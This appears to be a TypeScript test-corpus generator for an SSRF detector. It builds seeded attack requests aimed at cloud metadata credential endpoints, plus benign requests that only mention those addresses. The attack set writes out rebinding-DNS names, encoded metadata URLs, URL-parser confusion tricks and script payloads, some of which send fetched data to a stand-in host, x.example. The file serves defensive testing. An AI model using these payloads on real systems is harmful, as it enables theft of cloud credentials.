import type { CorpusCase } from './ssrf-corpus.ts';

/**
 * The families that held-out corpora found weak: attacks in the grammars of rebinding services, public aliases,
 * hex-written URLs, base64 URLs in path segments and script escapes; and hard benign requests where an address or
 * metadata name is talked about, searched for, blocked or listed rather than fetched (prose, query languages, CIDR
 * blocks, configuration lists, token claims, wiki slugs, one-word provider names, searches with filter syntax, source
 * addresses, lists under any name, records that state an address); and URLs that end where their parameter does or
 * whose authority parsers read differently. Generated from a seed: values
 * vary case to case (addresses, ids, words, encodings), the same cases every run.
 */

function generator(seed: number) {
  let s = seed >>> 0;
  const next = () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  const pick = <T>(a: readonly T[]): T => a[int(a.length)]!;
  const hexId = (n: number) => Array.from({ length: n }, () => '0123456789abcdef'[int(16)]).join('');
  const publicIp = () => `${pick([23, 34, 52, 93, 104, 151, 185, 203])}.${int(256)}.${int(256)}.${1 + int(254)}`;
  return { next, int, pick, hexId, publicIp };
}

/** Metadata URLs of several providers (host, path). */
const META_URLS: ReadonlyArray<readonly [string, string]> = [
  ['169.254.169.254', '/latest/meta-data/iam/security-credentials/'],
  ['169.254.169.254', '/latest/user-data'],
  ['169.254.169.254', '/computeMetadata/v1/instance/service-accounts/default/token'],
  ['169.254.169.254', '/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net'],
  ['169.254.169.254', '/opc/v2/instance/'],
  ['169.254.170.2', '/v2/credentials/3f1e2d4c-aaaa-4bbb-8ccc-123456789abc'],
  ['100.100.100.200', '/latest/meta-data/ram/security-credentials/'],
  ['metadata.google.internal', '/computeMetadata/v1/project/attributes/ssh-keys'],
  ['[fd00:ec2::254]', '/latest/meta-data/'],
];
const META_PATHS = META_URLS.map(([, p]) => p);
const hex = (s: string) => Buffer.from(s).toString('hex');
const b64url = (s: string) => Buffer.from(s).toString('base64url');
const b64 = (s: string) => Buffer.from(s).toString('base64');
const enc = encodeURIComponent;

/** Attacks of the grammar and encoding families. */
export function buildGrammarAttacks(n = 60, seed = 1616): CorpusCase[] {
  const g = generator(seed);
  const out: CorpusCase[] = [];
  const add = (family: string, text: string) => out.push({ family, text, expect: 'metadata' });
  const param = () => g.pick(['url', 'u', 'target', 'src', 'imageUrl', 'callback', 'feed', 'webhook_url', 'next']);
  const metaV4 = () =>
    g.pick([
      ['169.254.169.254', '169-254-169-254', '169.254-169.254', 'ip-169o254o169o254', `hex-${hex('169.254.169.254')}`],
      ['100.100.100.200', '100-100-100-200', 'ip-100o100o100o200', `hex-${hex('100.100.100.200')}`],
      ['169.254.170.2', '169-254-170-2', 'ip-169o254o170o2'],
    ] as const);
  for (let i = 0; i < n; i++) {
    const [host, path] = g.pick(META_URLS);
    const url = `http://${host}${path}`;
    // 1u.ms: a public first answer, then the metadata address in any record form; prefixes and suffixes vary.
    const forms = metaV4();
    const rec = g.pick(forms);
    const first = g.publicIp();
    const pre = g.pick(['', `${g.hexId(6)}-`, `a.${g.hexId(4)}-`]);
    const post = g.pick(['', `-${g.hexId(5)}`, `-and.${g.hexId(3)}`]);
    const name = g.pick([
      `${pre}make-${first}-rebind-${rec}-rr${post}.1u.ms`,
      `${pre}make-${first.replace(/\./g, '-')}-and-${rec}-rr${post}.1u.ms`,
      `${pre}make-${rec}-rr${post}.1u.ms`,
      `${pre}make-ip-v6-ccffffca9feca9fe-rr${post}.1u.ms`,
      `${pre}make-fd00-ec2--254-rr${post}.1u.ms`,
      `${pre}make-${first}-rebind-cname-metadata.google.internal-rr${post}.1u.ms`,
      `${g.hexId(8)}.a9fea9fe.rbndr.us`,
      `a9fea9fe.${g.hexId(8)}.rbndr.us`,
      `s-${first}-169.254.169.254-${g.int(1e9)}-fs-e.d.rebind.it`,
      `${g.hexId(4)}.fd00-ec2--254.sslip.io`,
      `${g.hexId(5)}-169-254-169-254.nip.io`,
    ]);
    const p = name.includes('cname-metadata') ? '/computeMetadata/v1/instance/service-accounts/default/token' : path;
    add(
      'rebinding-grammar',
      `/${g.pick(['fetch', 'api/preview', 'proxy'])}?${param()}=${g.pick([`http://${name}${p}`, enc(`http://${name}${p}`)])}`,
    );

    // Public aliases: a fixed name that resolves to the address, a redirector to it.
    add(
      'dns-alias',
      g.pick([
        `/fetch?${param()}=http://meta.sub.sh.je${path}`,
        `/fetch?${param()}=${enc(`http://meta.sub.sh.je${path}`)}`,
        `/fetch?${param()}=http://nicob.net/redir6a`,
        `/fetch?${param()}=https://62epax5fhvj3zzmzigyoe5ipkbn7fysllvges3a.302.r3dir.me`,
      ]),
    );

    // Hex-written URLs: camo-style path segments (digest first) and parameters, either case.
    const h = g.next() < 0.5 ? hex(url) : hex(url).toUpperCase();
    add(
      'hex-url',
      g.pick([
        `/camo/${g.hexId(40)}/${h}`,
        `/${g.pick(['img', 'proxy', 'i'])}/${g.hexId(16)}/${h}`,
        `/redirect?${param()}=${h}`,
        `/api/render?format=png&${param()}=${h}&w=${g.int(900)}`,
      ]),
    );

    // Base64 URLs in path segments: imgproxy options first, an extension, or split by slashes at random places.
    // Standard base64 has `/` of its own, so a URL split by slashes is written in the URL-safe alphabet (as imgproxy does).
    const e = b64url(url);
    const whole = g.pick([e, b64(url).replace(/=+$/, '')]);
    const cut1 = 1 + g.int(e.length - 2);
    const cut2 = cut1 + 1 + g.int(Math.max(1, e.length - cut1 - 1));
    add(
      'base64-path',
      g.pick([
        `/${g.hexId(22)}/rs:fit:${g.int(900)}:${g.int(900)}/g:sm/${whole}.${g.pick(['jpg', 'png', 'webp', 'avif'])}`,
        `/insecure/w:${g.int(900)}/${whole}`,
        `/${g.hexId(22)}/rs:fill:${g.int(900)}/${e.slice(0, cut1)}/${e.slice(cut1, cut2)}/${e.slice(cut2)}.${g.pick(['jpg', 'png'])}`,
        `/thumb/${g.int(1e6)}/${e.slice(0, cut1)}/${e.slice(cut1)}`,
      ]),
    );

    // Script payloads carried in a parameter: octal, \x, \u{…} escapes and character codes.
    const octal = [...url]
      .map((c) => (/[a-z]/i.test(c) && g.next() < 0.3 ? c : `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}`))
      .join('');
    const xesc = [...url]
      .map((c) => (/[a-z0-9]/i.test(c) && g.next() < 0.5 ? c : `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`))
      .join('');
    const ucp = [...url].map((c) => (g.next() < 0.3 ? `\\u{${c.charCodeAt(0).toString(16)}}` : c)).join('');
    const codes = `String.fromCharCode(${[...url].map((c) => (g.next() < 0.2 ? `0x${c.charCodeAt(0).toString(16)}` : c.charCodeAt(0))).join(',')})`;
    const body = g.pick([
      `<script>fetch("${octal}").then(r=>r.text()).then(t=>new Image().src="//x.example/?"+t)</script>`,
      `<script>var u="${xesc}";fetch(u)</script>`,
      `<img src=x onerror="fetch('${ucp}')">`,
      `<script>fetch(${codes})</script>`,
      `<svg onload="location=${codes}">`,
    ]);
    add(
      'script-escape',
      `/${g.pick(['render', 'pdf', 'preview'])}?${g.pick(['html', 'js', 'content', 'template'])}=${enc(body)}`,
    );
  }
  // Kept apart (own generator) so the cases above stay what they were.
  const w = generator(seed + 1);
  for (let i = 0; i < n; i++) {
    const [, path] = w.pick(META_URLS.filter(([h]) => h === '169.254.169.254'));
    // Wildcard zones in the notations their servers read; xip.io's base 36 is 0xfea9fea9, written low byte first.
    const label = w.pick([`${w.hexId(4)}.`, `www.${w.hexId(5)}.org.`, '']);
    const name = w.pick([
      `${label}1ynrnhl.xip.io`,
      `${label}169.254.169.254.xip.io`,
      `${label.replace(/\./g, '-')}a9fea9fe.nip.io`,
      `${label}a9fea9fe.sslip.io`,
      `${label.replace(/\./g, '-')}169-254-169-254.sslip.io`,
    ]);
    add(
      'wildcard-forms',
      `/${w.pick(['fetch', 'preview'])}?${param()}=${w.pick([`http://${name}${path}`, enc(`http://${name}${path}`)])}`,
    );
    // A numeric address as a path segment, after a fetching route or before a metadata path.
    const num = w.pick([
      '2852039166',
      '0xa9fea9fe',
      '0xA9FEA9FE',
      '0251.0376.0251.0376',
      '0xa9.0xfe.0xa9.0xfe',
      '169.254.43518',
    ]);
    add('path-numeric', `/${w.pick(['r', 'proxy', 'fetch', 'mirror', 'cdn', 'assets'])}/${num}${path}`);
    // An octal or hex IPv4 part inside a mapped IPv6 literal, bracketed or with percent-encoded brackets.
    const v6 = w.pick(['::ffff:0251.0376.0251.0376', '::ffff:0xa9.0xfe.0xa9.0xfe', '0:0:0:0:0:ffff:0251.254.169.254']);
    add(
      'ipv6-mixed',
      `/fetch?${param()}=${w.pick([`http://[${v6}]${path}`, `http://%5B${v6}%5D${path}`, enc(`http://[${v6}]${path}`)])}`,
    );
  }
  const x = generator(seed + 2);
  for (let i = 0; i < n; i++) {
    // A URL whose host is not dotted, as one parameter among others: it ends where the parameter does.
    const host = x.pick([
      '0xa9fea9fe',
      '2852039166',
      '0251.0376.0251.0376',
      '[::ffff:a9fe:a9fe]',
      '[fd00:ec2::254]',
      'metadata',
      'instance-data',
      '0xa9.0xfe.0xa9.0xfe',
      '169.254.43518',
      '0xa9.16689662',
    ]);
    const scheme = x.pick(['http', 'https', 'HTTP', 'Http']);
    const user = x.pick(['', '', `${x.hexId(6)}@`, 'admin:pw@']);
    const port = x.pick(['', '', ':80']);
    const path = x.pick(['', '', '/', x.pick(META_PATHS)]);
    const after = x.pick([
      '&format=json',
      `&w=${x.int(2000)}`,
      ';v=1',
      `&lang=en&page=${x.int(9)}`,
      `,https://cdn.example.net/${x.hexId(4)}`,
    ]);
    const url = `${scheme}://${user}${host}${port}${path}`;
    add(
      'param-extent',
      `/${x.pick(['fetch', 'api/preview', 'img', 'proxy'])}?${x.pick(['url', 'u', 'src', 'next', 'target'])}=${x.pick([url, enc(url)])}${after}`,
    );
    // Several hosts in one authority: the one a parser connects to is a metadata host that is not dotted.
    const other = x.pick(['example.com', 'www.google.com', `${x.hexId(5)}.example.org`]);
    const confused = x.pick([
      `http://${other} &@${host}# @${other}/`,
      `http://${x.hexId(8)}@${host}:80@${other}/`,
      `http://${other}:80\\@${host}:80/`,
      `http://${host}:80+&@${other}#+@${other}/`,
      `http://${host}:80:80/`,
    ]);
    add(
      'userinfo-confusion',
      `/fetch?url=${x.pick([confused.replace(/ /g, '%20').replace(/#/g, '%23'), enc(confused)])}&x=${x.int(99)}`,
    );
  }
  return out;
}

/** Hard benign requests: the reference is talked about, searched for, blocked or listed, not fetched. */
export function buildContextBenign(n = 60, seed = 6161): CorpusCase[] {
  const g = generator(seed);
  const out: CorpusCase[] = [];
  const add = (family: string, text: string) => out.push({ family, text, expect: 'not-metadata' });
  const refs = [
    '169.254.169.254',
    '169.254.170.2',
    '100.100.100.200',
    'fd00:ec2::254',
    'metadata.google.internal',
    '169.254.169.254:80',
  ];
  const words = [
    'why',
    'does',
    'our',
    'pod',
    'reach',
    'the',
    'proxy',
    'block',
    'timeout',
    'on',
    'from',
    'node',
    'still',
    'returns',
    'after',
    'upgrade',
  ];
  const sentence = (k: number) => Array.from({ length: k }, () => g.pick(words)).join(' ');
  const qp = (s: string) => g.pick([enc(s), enc(s).replace(/%20/g, '+'), s.replace(/ /g, '+')]);
  for (let i = 0; i < n; i++) {
    const ref = g.pick(refs);
    const mp = g.pick(META_PATHS);
    // Prose: search boxes, chat, comments, issue queries; the reference touches punctuation, quotes, brackets, or starts the value.
    const wrapped = g.pick([
      ref,
      `"${ref}"`,
      `(${ref})`,
      `'${ref}'`,
      `${ref}?`,
      `${ref},`,
      `[${ref}]`,
      `${ref}.`,
      `\`${ref}\``,
    ]);
    const prose = g.pick([
      `what is ${wrapped}`,
      `${wrapped} ${sentence(2 + g.int(4))}`,
      `${sentence(1 + g.int(4))} ${wrapped} ${sentence(g.int(4))}`,
      `can you curl ${ref}${mp.split('?')[0]} ${sentence(2)}?`,
      `${sentence(2)}: ${ref}${mp.split('?')[0]} ${g.pick(['returns 401', 'hangs', 'is blocked now'])}`,
      `is:${g.pick(['open', 'closed'])} label:imds ${wrapped}`,
    ]);
    const where = g.pick([
      `/search?q=${qp(prose)}`,
      `/chat/send?room=${g.int(999)}&msg=${qp(prose)}`,
      `/api/comments?post=${g.int(1e6)}&body=${qp(prose)}`,
      `/issues?q=${qp(prose)}&sort=updated`,
      `{"message":${JSON.stringify(prose)},"channel":"ops-${g.int(99)}"}`,
    ]);
    add('prose', where);

    // Query languages in parameters: Splunk SPL, KQL and Lucene, PromQL label matchers, Falco output strings.
    const q = g.pick([
      `search index=proxy dest=${ref} | stats count by src`,
      `index=vpcflow dest_ip="${ref}" action=allowed | timechart span=1h count`,
      `destination.ip:"${ref}" and url.path:${g.pick(['"/latest/meta-data/"', '/latest/*', '*credentials*'])}`,
      `url.full:*${ref}* AND NOT user.name:svc_${g.int(99)}`,
      `up{instance="${ref.replace(/:80$/, '')}:9100",job="node"}`,
      `rate(http_requests_total{target="${ref}"}[5m])`,
      `Outbound connection to ${ref} (command=curl -s ${ref}${mp.split('?')[0]} container=web-${g.hexId(6)})`,
      `Unexpected connection to metadata (fd.name=10.0.${g.int(255)}.${g.int(255)}:${40000 + g.int(9999)}->${ref} proc=python3)`,
      `SELECT * FROM flows WHERE dst = '${ref}' LIMIT ${g.int(500)}`,
    ]);
    add(
      'query-language',
      g.pick([
        `/en-US/app/search/search?q=${qp(q)}&earliest=-24h`,
        `/app/discover#/?_a=(query:(language:kuery,query:'${enc(q)}'))`,
        `/api/v1/query?query=${enc(q)}&time=${1.7e9 + g.int(1e7)}`,
        `/falco/events?output=${qp(q)}&priority=Warning`,
        `/api/search?query=${qp(q)}`,
      ]),
    );

    // CIDR blocks in firewall, NACL, egress and NetworkPolicy parameters, also inside JSON bodies.
    const block = g.pick([
      '169.254.169.254/32',
      'fd00:ec2::254/128',
      '169.254.170.2/32',
      '100.100.100.200/32',
      '169.254.169.254/32',
    ]);
    add(
      'cidr',
      g.pick([
        `/api/firewall/rules?cidr=${g.pick([block, enc(block)])}&action=deny&priority=${g.int(1000)}`,
        `/api/nacl/${g.int(1e4)}/entries?cidrBlock=${enc(block)}&egress=true&ruleAction=deny`,
        `{"apiVersion":"networking.k8s.io/v1","kind":"NetworkPolicy","spec":{"egress":[{"to":[{"ipBlock":{"cidr":"0.0.0.0/0","except":["${block}"]}}]}]}}`,
        `{"SecurityGroupRules":[{"IpProtocol":"tcp","CidrIp":"${block}","Description":"deny imds ${g.int(99)}"}]}`,
        `/egress/deny?destination=${block}`,
        `/api/v2/policies?block=${block},10.${g.int(255)}.0.0/16`,
      ]),
    );

    // Configuration lists: no_proxy and allow/deny lists, hosts-file lines.
    const list = [
      'localhost',
      '127.0.0.1',
      `.${g.pick(['svc', 'cluster.local', 'internal'])}`,
      ref,
      g.pick(['metadata.google.internal', '169.254.170.2', '10.0.0.0/8']),
    ].sort(() => g.next() - 0.5);
    add(
      'config-list',
      g.pick([
        `/env?no_proxy=${list.join(',')}`,
        `/settings/proxy?NO_PROXY=${enc(list.join(','))}`,
        `{"env":[{"name":"NO_PROXY","value":"${list.join(',')}"}]}`,
        `/hosts?line=${enc(`169.254.169.254 metadata.google.internal metadata`)}`,
        `/api/hosts?entry=${qp(`${ref} ${g.pick(['instance-data', 'metadata', 'imds'])}.${g.pick(['local', 'lan'])}`)}`,
        `/admin/ssrf-denylist?hosts=${enc(list.join(';'))}`,
      ]),
    );

    // A JWT whose claim happens to be an address (not a URL the server fetches).
    const claims = g.pick([
      { sub: `svc-${g.int(1e4)}`, ip: '169.254.169.254', iat: 1.7e9 + g.int(1e7) },
      { client_ip: ref, aud: 'api', exp: 1.7e9 + g.int(1e7) },
      { sub: `node-${g.hexId(6)}`, host: 'metadata.google.internal', scope: 'read' },
    ]);
    const jwt = `${b64url(JSON.stringify({ alg: 'HS256', typ: 'JWT' }))}.${b64url(JSON.stringify(claims))}.${b64url(g.hexId(32))}`;
    add(
      'jwt-claim',
      g.pick([`/api/me?access_token=${jwt}`, `/callback?id_token=${jwt}&state=${g.hexId(8)}`, `{"token":"${jwt}"}`]),
    );

    // Wiki and documentation slugs.
    add(
      'wiki-slug',
      g.pick([
        `/wiki/169.254.169.254_(disambiguation)`,
        `/wiki/${ref.replace(/:/g, '%3A')}_(${g.pick(['address', 'networking', 'disambiguation'])})`,
        `/w/index.php?title=${enc(ref)}&action=${g.pick(['edit', 'history'])}`,
        `/kb/${g.int(9999)}-${ref.replace(/[.:]/g, '-')}-${g.pick(['explained', 'faq', 'blocked'])}`,
      ]),
    );

    // A one-word provider name as the value of a parameter that is not URL-ish.
    add(
      'provider-word',
      g.pick([
        `/profile?team=metadata&page=${g.int(9)}`,
        `/settings?section=metadata&tab=${g.pick(['instance', 'identity', 'tags'])}`,
        `/api/v1/resources?kind=metadata&name=${g.hexId(6)}`,
        `/catalog?facet=metadata&value=instance-data`,
        `/search?type=metadata&q=${g.pick(words)}`,
        `/docs?topic=metadata/v1&lang=en`,
      ]),
    );
  }
  const v = generator(seed + 2);
  for (let i = 0; i < n; i++) {
    const ref = v.pick(refs.filter((r) => !r.endsWith(':80')));
    // A search for the address: punctuation after it, or filter syntax around it.
    add(
      'search-filter',
      v.pick([
        `/search?q=${enc(`${ref}${v.pick(['?', '!', '?!', '/', '.'])}`)}`,
        `/search?q=${v.pick(['host', 'ip', 'dst', 'dest', 'destination'])}${v.pick([':', '%3A', '=', '%3D'])}${ref}`,
        `/en-US/app/search/search?q=${enc(`search ${v.pick(['dest', 'dest_ip', 'src'])}=${ref} | ${v.pick(['stats count by src', 'head 20', 'table _time src'])}`)}`,
        `/logs?${v.pick(['filter', 'where', 'expr'])}=${enc(`${v.pick(['host', 'remote', 'addr'])}${v.pick([':', '='])}${ref}`)}`,
      ]),
    );
    // A source or client address: where traffic came from, not where it goes.
    add(
      'source-param',
      `/${v.pick(['api/events', 'audit', 'x', 'admin/sessions'])}?${v.pick(['src_ip', 'client', 'client_ip', 'remote_addr', 'source_ip', 'clientIp', 'x_forwarded_for'])}=${v.pick([ref, enc(ref)])}&page=${v.int(20)}`,
    );
    // Lists of hosts under any name.
    add(
      'list-name',
      `/${v.pick(['settings', 'cfg', 'admin/proxy'])}?${v.pick(['allowed_hosts', 'trustedHosts', 'ALLOWED_HOSTS', 'proxy_bypass_list', 'exclusions', 'env[NO_PROXY]', 'ignore_hosts'])}=${v.pick([ref, `localhost,${ref}`, enc(`${ref};127.0.0.1`)])}`,
    );
    // Records that state the address: flow events, inventory entries, manifests, query DSL.
    const rec = v.pick([
      { event_type: 'flow', src_ip: `10.0.${v.int(255)}.${v.int(255)}`, dest_ip: ref, dest_port: 80, proto: 'TCP' },
      { source: { ip: `10.1.${v.int(255)}.7`, port: 40000 + v.int(9999) }, destination: { ip: ref, port: 80 } },
      { ci_class: 'server', name: `imds-${v.hexId(4)}`, hostname: ref, os: 'linux', owner: `team-${v.int(9)}` },
      { spec: { hostAliases: [{ ip: ref, hostnames: ['metadata.google.internal', 'metadata'] }] } },
      { kind: 'ServiceEntry', spec: { hosts: ['metadata.google.internal'], endpoints: [{ address: ref }] } },
      { query: { bool: { filter: [{ term: { 'destination.ip': ref } }] } } },
      { proxy: { no_proxy: ['localhost', ref] } },
    ]);
    add('record-body', JSON.stringify(rec));
  }
  const w = generator(seed + 1);
  for (let i = 0; i < n; i++) {
    // Numbers as path segments of pages: ids, with or without words that metadata paths also use.
    const id = w.pick([String(1e9 + w.int(1.8e9)), String(w.int(1e7)), `0x${w.hexId(8)}`]);
    add(
      'path-id',
      w.pick([
        `/orders/${id}/reviews`,
        `/r/${id}`,
        `/releases/${id}/latest`,
        `/v1/items/${id}/latest/meta-data/`,
        `/docs/metadata/latest/meta-data/${w.pick(['hostname', 'iam'])}`,
      ]),
    );
    // Names under wildcard zones that hold no metadata address in a notation the zone reads.
    add(
      'wildcard-other',
      `/fetch?url=http://${w.pick([`${w.hexId(6)}.xip.io`, '1b613i6.xip.io', `10-0-${w.int(256)}-1.nip.io`, `${w.hexId(8)}.${w.hexId(8)}.rbndr.us`])}/`,
    );
  }
  return out;
}
